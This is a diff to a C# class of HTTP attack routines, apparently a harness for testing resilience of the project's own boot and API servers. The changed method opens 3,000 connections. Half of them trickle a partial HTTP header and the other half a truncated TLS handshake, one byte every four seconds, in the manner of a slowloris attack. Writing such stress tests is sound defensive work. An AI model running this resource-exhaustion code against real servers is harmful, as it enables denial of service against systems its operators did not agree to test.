@@ -41,7 +41,9 @@ internal static class HttpAttacks
         }
     }, cancellation);
 
-    /// <summary>Three thousand connections to the API and to boot HTTP that send a request's head one octet in four seconds.</summary>
+    /// <summary>
+    /// Three thousand connections that send one octet in four seconds: to boot HTTP of a request's head, to the API of a TLS handshake.
+    /// </summary>
     public static Task ConnectionsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(3000, async number =>
     {
         await Task.Delay(number, cancellation);
@@ -49,7 +51,9 @@ internal static class HttpAttacks
         socket.Bind(new IPEndPoint(target.Own(number), 0));
         await socket.ConnectAsync(target.Server, number % 2 == 0 ? FilePort : ApiPort, cancellation);
         target.Count();
-        foreach (var octet in Encoding.ASCII.GetBytes("GET /api/v3/machines HTTP/1.1\r\nX-Slow: " + new string('x', 4000)))
+        // A record of a handshake (22) of TLS 1.0, as it begins for all versions, that announces 4,096 octets.
+        byte[] head = number % 2 == 0 ? [.. "GET /nothing HTTP/1.1\r\nX-Slow: "u8] : [22, 3, 1, 16, 0, 1, 0, 15, 252];
+        foreach (var octet in head.Concat(Enumerable.Repeat((byte)'x', 4000)))
         {
             await socket.SendAsync(new[] { octet }, cancellation);
             await Task.Delay(TimeSpan.FromSeconds(4), cancellation);
